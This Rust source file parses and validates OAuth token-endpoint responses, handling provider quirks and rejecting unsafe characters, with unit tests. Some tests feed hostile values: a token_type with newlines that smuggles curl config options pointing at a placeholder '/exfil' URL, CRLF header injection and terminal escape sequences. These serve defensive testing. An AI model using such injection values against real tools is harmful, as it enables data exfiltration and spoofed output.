//! Lenient token responses: real providers send numbers as strings, odd token
//! types, form-encoded bodies, extra and empty keys, and errors with HTTP 200.

use crate::secret::Secret;
use serde_json::{Map, Value};

pub use crate::text::one_line;

#[derive(Debug, Clone)]
pub struct TokenResponse {
    pub access_token: Secret,
    pub token_type: Option<String>,
    pub expires_in: Option<u64>,
    pub refresh_token: Option<Secret>,
    /// How long the refresh token works, when the provider says:
    /// `refresh_token_expires_in` (GitHub, Entra) or `refresh_expires_in`
    /// (Keycloak). `None` when it does not, or says 0 (Keycloak's offline
    /// tokens, Apigee): no expiry known.
    pub refresh_expires_in: Option<u64>,
    pub id_token: Option<Secret>,
    pub scope: Option<String>,
    /// The DPoP key the request was made with (stored form), which a
    /// DPoP-bound token needs for every later use.
    pub dpop_key: Option<Secret>,
}

#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ErrorResponse {
    pub error: String,
    pub description: Option<String>,
    pub uri: Option<String>,
}

#[derive(Debug)]
pub enum Parsed {
    Token(TokenResponse),
    Error(ErrorResponse),
    /// Not JSON or form data; carries what the body looked like, without its content.
    Unreadable(String),
    /// A readable body with neither `access_token` nor `error`.
    NoToken,
    /// A token response with a value that must not reach a header, a file
    /// or a terminal (control characters, a token outside RFC 6750's
    /// b64token...): says which field, never its content.
    Invalid(String),
}

/// The longest lifetime believed; anything longer is clamped to it. Ten
/// years is far beyond any real token and far below any overflow.
pub const MAX_LIFETIME_SECS: u64 = 10 * 365 * 24 * 3600;

/// Parses a token-endpoint body. JSON first, then form-encoding (GitHub's
/// classic endpoint without `Accept: application/json`).
pub fn parse(content_type: &str, body: &[u8]) -> Parsed {
    let fields = match parse_fields(content_type, body) {
        Ok(fields) => fields,
        Err(what) => return Parsed::Unreadable(what),
    };
    if let Some(error) = string_field(&fields, "error")
        .map(|e| error_code(&e))
        .filter(|e| !e.is_empty())
    {
        return Parsed::Error(ErrorResponse {
            error,
            description: string_field(&fields, "error_description").map(|d| one_line(&d, 200)),
            uri: string_field(&fields, "error_uri").map(|u| one_line(&u, 200)),
        });
    }
    let Some(access_token) = string_field(&fields, "access_token").filter(|t| !t.is_empty()) else {
        return Parsed::NoToken;
    };
    let token = TokenResponse {
        access_token: Secret::new(access_token),
        token_type: string_field(&fields, "token_type")
            .map(|t| t.trim().to_owned())
            .filter(|t| !t.is_empty()),
        expires_in: lifetime_field(&fields, "expires_in"),
        refresh_token: string_field(&fields, "refresh_token")
            .filter(|t| !t.is_empty())
            .map(Secret::new),
        refresh_expires_in: refresh_lifetime_field(&fields),
        id_token: string_field(&fields, "id_token")
            .filter(|t| !t.is_empty())
            .map(Secret::new),
        scope: scope_field(&fields),
        dpop_key: None,
    };
    match validate(&token) {
        Ok(()) => Parsed::Token(token),
        Err(what) => Parsed::Invalid(what),
    }
}

/// Everything a token response carries is checked before it can reach a
/// curl config, a header, a shell `export` or a terminal.
fn validate(token: &TokenResponse) -> Result<(), String> {
    if let Some(token_type) = &token.token_type
        && !is_token_type(token_type)
    {
        return Err("a token_type that is not a token-type word (RFC 6749 §7.1)".to_owned());
    }
    let token_type = normalize_token_type(token.token_type.as_deref());
    check_access_token(&token_type, token.access_token.expose())?;
    if let Some(refresh) = &token.refresh_token
        && !is_vschar(refresh.expose())
    {
        return Err(
            "a refresh_token with characters outside RFC 6749's VSCHAR (control characters or non-ASCII)"
                .to_owned(),
        );
    }
    if let Some(id_token) = &token.id_token
        && !id_token.expose().chars().all(is_b64token_char)
    {
        return Err(
            "an id_token that is not a JWT (characters outside base64url and `.`)".to_owned(),
        );
    }
    if let Some(scope) = &token.scope
        && !scope.split(' ').all(|s| s.chars().all(is_nqchar))
    {
        return Err("a scope with characters outside RFC 6749's NQCHAR".to_owned());
    }
    Ok(())
}

/// An access token fit for `Authorization: TYPE TOKEN`: RFC 6750's
/// `b64token` for Bearer and DPoP, visible ASCII without spaces, quotes or
/// backslashes for other types. Also used on stored tokens before output.
pub fn check_access_token(token_type: &str, token: &str) -> Result<(), String> {
    if token.is_empty() {
        return Err("an empty access_token".to_owned());
    }
    let fits = if token_type == "Bearer" || token_type == "DPoP" {
        is_b64token(token)
    } else {
        token
            .bytes()
            .all(|b| b.is_ascii_graphic() && b != b'"' && b != b'\\')
    };
    if fits && is_token_type(token_type) {
        Ok(())
    } else if !is_token_type(token_type) {
        Err("a token_type that is not a token-type word (RFC 6749 §7.1)".to_owned())
    } else {
        Err(format!(
            "an access_token with characters a {token_type} token cannot have (RFC 6750 b64token)"
        ))
    }
}

/// RFC 6750 §2.1: `1*( ALPHA / DIGIT / "-" / "." / "_" / "~" / "+" / "/" ) *"="`.
/// Bytes and a table: `token` checks every token it prints, so this is on
/// the fast path.
fn is_b64token(token: &str) -> bool {
    let body = token.trim_end_matches('=');
    !body.is_empty() && body.bytes().all(|b| B64TOKEN[usize::from(b)])
}

fn is_b64token_char(c: char) -> bool {
    c.is_ascii() && B64TOKEN[c as usize]
}

/// Which bytes RFC 6750's `b64token` allows (before the trailing `=`).
const B64TOKEN: [bool; 256] = {
    let mut table = [false; 256];
    let mut b = 0;
    while b < 256 {
        let c = b as u8;
        table[b] =
            c.is_ascii_alphanumeric() || matches!(c, b'-' | b'.' | b'_' | b'~' | b'+' | b'/');
        b += 1;
    }
    table
};

/// RFC 6749 §7.1 / Appendix A.7: `type-name = 1*name-char`.
fn is_token_type(word: &str) -> bool {
    !word.is_empty()
        && word.len() <= 64
        && word
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || matches!(c, '-' | '.' | '_'))
}

/// RFC 6749 Appendix A: `VSCHAR = %x20-7E`.
fn is_vschar(text: &str) -> bool {
    text.chars().all(|c| (' '..='~').contains(&c))
}

/// RFC 6749 Appendix A: `NQCHAR = %x21 / %x23-5B / %x5D-7E`.
fn is_nqchar(c: char) -> bool {
    matches!(c, '!' | '#'..='[' | ']'..='~')
}

/// Only an error body, for endpoints other than the token endpoint.
pub fn parse_error(content_type: &str, body: &[u8]) -> Option<ErrorResponse> {
    match parse(content_type, body) {
        Parsed::Error(error) => Some(error),
        _ => None,
    }
}

pub fn parse_fields(content_type: &str, body: &[u8]) -> Result<Map<String, Value>, String> {
    let text = std::str::from_utf8(body).map_err(|_| "a body that is not UTF-8".to_owned())?;
    let trimmed = text.trim_start_matches('\u{feff}').trim();
    if trimmed.is_empty() {
        return Err("an empty body".to_owned());
    }
    let ct = content_type.to_ascii_lowercase();
    if trimmed.starts_with('{') || ct.contains("json") {
        return match serde_json::from_str::<Value>(trimmed) {
            Ok(Value::Object(map)) => Ok(map),
            Ok(_) => Err("JSON that is not an object".to_owned()),
            Err(_) => Err(format!("malformed JSON ({} bytes)", body.len())),
        };
    }
    if trimmed.starts_with('<') || ct.contains("html") || ct.contains("xml") {
        return Err("an HTML page instead of JSON".to_owned());
    }
    if ct.contains("x-www-form-urlencoded") || trimmed.contains('=') && !trimmed.contains(' ') {
        let map: Map<String, Value> = form_urlencoded::parse(trimmed.as_bytes())
            .map(|(k, v)| (k.into_owned(), Value::String(v.into_owned())))
            .collect();
        return Ok(map);
    }
    Err(format!(
        "a body that is neither JSON nor form data (content-type `{}`)",
        if content_type.is_empty() {
            "none"
        } else {
            content_type
        }
    ))
}

fn string_field(fields: &Map<String, Value>, key: &str) -> Option<String> {
    match fields.get(key)? {
        Value::String(s) => Some(s.clone()),
        Value::Number(n) => Some(n.to_string()),
        _ => None,
    }
}

/// `3599`, `"3599"`, `3599.0` all mean 3599 s. Zero, negative, NaN, infinite
/// or not a number means "expires now" (so it is renewed, never trusted
/// forever); absurdly long lifetimes are clamped with a warning. `None` only
/// when the field is absent (or null): the provider did not say.
fn lifetime_field(fields: &Map<String, Value>, key: &str) -> Option<u64> {
    let seconds = match fields.get(key)? {
        Value::Null => return None,
        Value::Number(n) => n.as_f64(),
        Value::String(s) => s.trim().parse::<f64>().ok(),
        _ => None,
    };
    Some(clamp_lifetime(key, seconds))
}

/// The refresh token's lifetime, under either name. Unlike `expires_in`,
/// zero or nonsense means "not said", never "expired": a refresh token
/// taken for expired would cost a login the provider may not want, while
/// one taken for alive is at worst refused by the provider, which then says
/// so itself. Keycloak says 0 for offline tokens, which do not expire.
fn refresh_lifetime_field(fields: &Map<String, Value>) -> Option<u64> {
    let (key, value) = ["refresh_token_expires_in", "refresh_expires_in"]
        .into_iter()
        .find_map(|key| fields.get(key).map(|value| (key, value)))?;
    let seconds = match value {
        Value::Null => return None,
        Value::Number(n) => n.as_f64(),
        Value::String(s) if s.trim().is_empty() => return None,
        Value::String(s) => s.trim().parse::<f64>().ok(),
        _ => None,
    };
    match seconds {
        Some(0.0) => None,
        Some(s) if s.is_finite() && s >= 1.0 => Some(clamp_lifetime(key, Some(s))),
        _ => {
            log::warn!(
                "the provider's {key} is not a positive number: the refresh token's lifetime is unknown"
            );
            None
        }
    }
}

/// See [`lifetime_field`]; `None` is "not a number".
pub fn clamp_lifetime(key: &str, seconds: Option<f64>) -> u64 {
    match seconds {
        Some(s) if s.is_finite() && s >= 1.0 => {
            if s > MAX_LIFETIME_SECS as f64 {
                log::warn!(
                    "the provider's {key} of {s:e} s is absurd: treating it as {} years",
                    MAX_LIFETIME_SECS / (365 * 24 * 3600)
                );
                MAX_LIFETIME_SECS
            } else {
                s as u64
            }
        }
        _ => {
            log::warn!(
                "the provider's {key} is not a positive number: treating the token as expiring now"
            );
            0
        }
    }
}

/// Space-separated per RFC 6749, but some send arrays or commas; trailing
/// spaces (Metapack) are trimmed.
fn scope_field(fields: &Map<String, Value>) -> Option<String> {
    let scope = match fields.get("scope")? {
        Value::String(s) => s.split_whitespace().collect::<Vec<_>>().join(" "),
        Value::Array(items) => items
            .iter()
            .filter_map(|v| v.as_str())
            .collect::<Vec<_>>()
            .join(" "),
        _ => return None,
    };
    (!scope.is_empty()).then_some(scope)
}

/// Token types are case-insensitive (RFC 6749 §5.1); Apigee says `BearerToken`.
pub fn normalize_token_type(token_type: Option<&str>) -> String {
    match token_type.map(str::trim) {
        None | Some("") => "Bearer".to_owned(),
        Some(t) if t.eq_ignore_ascii_case("bearer") || t.eq_ignore_ascii_case("bearertoken") => {
            "Bearer".to_owned()
        }
        Some(t) if t.eq_ignore_ascii_case("dpop") => "DPoP".to_owned(),
        Some(t) => t.to_owned(),
    }
}

/// A short single-line excerpt of an error body: tags stripped, whitespace folded.
pub fn excerpt(body: &[u8], max: usize) -> Option<String> {
    let text = String::from_utf8_lossy(body);
    let mut out = String::new();
    let mut in_tag = false;
    let lower = text.to_ascii_lowercase();
    // Prefer the <title> of an HTML page: it is usually the whole story.
    if let (Some(start), Some(end)) = (lower.find("<title>"), lower.find("</title>"))
        && start + 7 <= end
    {
        let title = one_line(&text[start + 7..end], max);
        if !title.is_empty() {
            return Some(title);
        }
    }
    for c in text.chars() {
        match c {
            '<' => in_tag = true,
            '>' => {
                in_tag = false;
                out.push(' ');
            }
            _ if !in_tag => out.push(c),
            _ => {}
        }
    }
    let line = one_line(&out, max);
    (!line.is_empty()).then_some(line)
}

/// An OAuth error code as RFC 6749 §5.2 allows it (NQSCHAR: printable ASCII
/// without `"` and `\`), capped: anything else is dropped.
pub fn error_code(text: &str) -> String {
    text.chars()
        .filter(|c| matches!(c, ' ' | '!' | '#'..='[' | ']'..='~'))
        .take(64)
        .collect::<String>()
        .trim()
        .to_owned()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn token(body: &str, ct: &str) -> TokenResponse {
        match parse(ct, body.as_bytes()) {
            Parsed::Token(t) => t,
            other => panic!("not a token: {other:?}"),
        }
    }

    #[test]
    fn apigee_strings_and_empty_key() {
        let t = token(
            r#"{"refresh_token_expires_in":"0","":"","token_type":"BearerToken","issued_at":"1487281223451","access_token":"456def","scope":"user","expires_in":"3599"}"#,
            "application/json",
        );
        assert_eq!(t.access_token.expose(), "456def");
        assert_eq!(t.expires_in, Some(3599));
        assert_eq!(normalize_token_type(t.token_type.as_deref()), "Bearer");
        assert!(t.refresh_token.is_none());
    }

    #[test]
    fn only_access_token() {
        let t = token(r#"{"access_token":"TOKEN_HERE"}"#, "application/json");
        assert_eq!(t.expires_in, None);
        assert_eq!(t.token_type, None);
    }

    #[test]
    fn form_encoded_body() {
        let t = token(
            "access_token=gho_abc&scope=repo%2Cgist&token_type=bearer",
            "application/x-www-form-urlencoded",
        );
        assert_eq!(t.access_token.expose(), "gho_abc");
        assert_eq!(t.scope.as_deref(), Some("repo,gist"));
    }

    #[test]
    fn error_with_200() {
        match parse("application/json", br#"{"error":"bad_verification_code","error_description":"The code passed is incorrect."}"#) {
            Parsed::Error(e) => assert_eq!(e.error, "bad_verification_code"),
            other => panic!("{other:?}"),
        }
    }

    #[test]
    fn trailing_space_scope_is_trimmed() {
        let t = token(
            r#"{"access_token":"a","scope":"a b ","token_type":"bearer","expires_in":3600}"#,
            "",
        );
        assert_eq!(t.scope.as_deref(), Some("a b"));
        assert_eq!(t.expires_in, Some(3600));
    }

    fn invalid(body: &str) -> String {
        match parse("application/json", body.as_bytes()) {
            Parsed::Invalid(what) => what,
            other => panic!("accepted a hostile response: {other:?}"),
        }
    }

    #[test]
    fn token_type_with_a_newline_cannot_inject_curl_options() {
        let what = invalid(
            r#"{"access_token":"abc","token_type":"Bearer X\nurl = http://127.0.0.2/exfil\noutput = /tmp/x\n#"}"#,
        );
        assert!(what.contains("token_type"), "{what}");
    }

    #[test]
    fn access_token_outside_b64token_is_refused() {
        for token in [
            "abc\ndef",
            "abc\r\nX-Injected: 1",
            "a b",
            "tok\"en",
            "\u{1b}[31m",
            "==",
            "té",
        ] {
            let body =
                serde_json::json!({"access_token": token, "token_type": "bearer"}).to_string();
            assert!(invalid(&body).contains("access_token"), "{token:?}");
        }
        // b64token proper, with padding: fine.
        let t = token(
            r#"{"access_token":"a-b.c_d~e+f/g==","token_type":"bearer"}"#,
            "",
        );
        assert_eq!(t.access_token.expose(), "a-b.c_d~e+f/g==");
    }

    #[test]
    fn control_characters_in_other_fields_are_refused() {
        assert!(
            invalid(r#"{"access_token":"a","refresh_token":"r\u0000x"}"#).contains("refresh_token")
        );
        assert!(invalid(r#"{"access_token":"a","id_token":"x.y\n.z"}"#).contains("id_token"));
        assert!(invalid(r#"{"access_token":"a","scope":"read\u001b[2J"}"#).contains("scope"));
    }

    #[test]
    fn absurd_lifetimes_are_clamped_and_nonsense_expires_now() {
        let lifetime =
            |v: &str| token(&format!(r#"{{"access_token":"a","expires_in":{v}}}"#), "").expires_in;
        assert_eq!(lifetime("18446744073709551616"), Some(MAX_LIFETIME_SECS));
        assert_eq!(lifetime("1e19"), Some(MAX_LIFETIME_SECS));
        assert_eq!(lifetime("1e308"), Some(MAX_LIFETIME_SECS));
        assert_eq!(lifetime(r#""1e19""#), Some(MAX_LIFETIME_SECS));
        for now in [
            r#""inf""#,
            r#""NaN""#,
            "-5",
            "0",
            r#""soon""#,
            "true",
            r#""""#,
            "0.5",
        ] {
            assert_eq!(lifetime(now), Some(0), "{now}");
        }
        assert_eq!(lifetime("null"), None);
        assert_eq!(lifetime("3599.9"), Some(3599));
    }

    #[test]
    fn refresh_token_lifetimes_under_either_name() {
        let lifetime = |fields: &str| {
            token(
                &format!(r#"{{"access_token":"a","refresh_token":"r",{fields}}}"#),
                "",
            )
            .refresh_expires_in
        };
        assert_eq!(
            lifetime(r#""refresh_token_expires_in":15897600"#),
            Some(15897600)
        );
        assert_eq!(
            lifetime(r#""refresh_token_expires_in":"86399""#),
            Some(86399)
        );
        assert_eq!(lifetime(r#""refresh_expires_in":1800"#), Some(1800));
        assert_eq!(lifetime(r#""refresh_expires_in":1800.7"#), Some(1800));
        assert_eq!(
            lifetime(r#""refresh_expires_in":1e30"#),
            Some(MAX_LIFETIME_SECS)
        );
        // Keycloak's offline tokens, Apigee: 0 is "no expiry", not "expired".
        for unknown in [
            r#""refresh_expires_in":0"#,
            r#""refresh_token_expires_in":"0""#,
            r#""refresh_expires_in":null"#,
            r#""refresh_expires_in":"""#,
            r#""refresh_expires_in":-5"#,
            r#""refresh_expires_in":"soon""#,
            r#""refresh_expires_in":0.5"#,
            r#""refresh_expires_in":true"#,
            r#""expires_in":60"#,
        ] {
            assert_eq!(lifetime(unknown), None, "{unknown}");
        }
        // GitHub's name first, when a body has both.
        assert_eq!(
            lifetime(r#""refresh_expires_in":10,"refresh_token_expires_in":20"#),
            Some(20)
        );
    }

    #[test]
    fn html_and_garbage_are_unreadable() {
        assert!(matches!(
            parse("text/html", b"<html><title>502 Bad Gateway</title></html>"),
            Parsed::Unreadable(_)
        ));
        assert!(matches!(
            parse("application/json", b"{\"access_token\": "),
            Parsed::Unreadable(_)
        ));
        assert!(matches!(parse("", b""), Parsed::Unreadable(_)));
    }

    #[test]
    fn provider_text_cannot_forge_terminal_lines() {
        assert_eq!(
            one_line("a\r\noauthctl: fake\u{1b}[31m\u{7}", 80),
            "a oauthctl: fake[31m"
        );
        assert_eq!(
            error_code("access_denied\r\n\u{1b}[31m\"x"),
            "access_denied[31mx"
        );
        assert_eq!(error_code(&"e".repeat(500)).len(), 64);
    }

    #[test]
    fn excerpt_prefers_title_and_is_one_line() {
        let e = excerpt(
            b"<html><head><title>Internal\nServer Error</title></head><body>x</body></html>",
            80,
        )
        .unwrap();
        assert_eq!(e, "Internal Server Error");
        let long = "x".repeat(500);
        assert!(excerpt(long.as_bytes(), 80).unwrap().chars().count() <= 81);
    }
}
